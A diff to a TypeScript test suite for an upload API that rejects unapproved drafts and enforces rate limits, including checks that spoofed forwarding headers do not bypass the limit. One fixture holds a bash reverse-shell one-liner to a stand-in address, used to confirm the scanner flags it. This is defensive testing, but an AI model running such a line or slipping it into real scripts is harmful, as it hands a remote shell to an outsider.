@@ -155,7 +155,10 @@ describe("what is wrong with the request", () => {
     const files = { "run.sh": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" };
     const answer = await upload(body(undefined, { files }));
     expectProblem(answer, 422, "DRAFT_NOT_APPROVED");
-    expect(answer.body["findings"]).toContainEqual(expect.objectContaining({ path: "run.sh", line: 1 }));
+    const [finding] = answer.body["findings"] as Record<string, string>[];
+    expect(finding).toMatchObject({ path: "run.sh", line: 1 });
+    expect(finding?.["evidence"]).toContain("/dev/tcp/");
+    expect(finding?.["remedy"]).toMatch(/\w/);
   });
 
   test("401 AGENT_SECRET_REQUIRED and AGENT_SECRET_INVALID", async () => {
@@ -186,11 +189,19 @@ describe("what is wrong with the request", () => {
 describe("429", () => {
   test("the sixth upload of an address, whatever it writes into forwarding headers", async () => {
     const remoteAddress = newClientAddress();
-    for (let i = 0; i < 5; i++) expect((await upload(body(), { remoteAddress })).status).toBe(201);
+    for (let i = 0; i < 5; i++) {
+      const { status, headers } = await upload(body(), { remoteAddress });
+      expect([status, headers.get("ratelimit-limit"), headers.get("ratelimit-remaining")]).toEqual([
+        201,
+        "5",
+        String(4 - i),
+      ]);
+    }
     for (const name of ["x-forwarded-for", "x-real-ip", "forwarded", "cf-connecting-ip"]) {
       const answer = await upload(body(), { remoteAddress, headers: { [name]: "198.51.100.1" } });
       expectProblem(answer, 429, "RATE_LIMITED");
       expect(Number(answer.headers.get("retry-after"))).toBeGreaterThan(3500);
+      expect(answer.headers.get("ratelimit-remaining")).toBe("0");
     }
   });
 
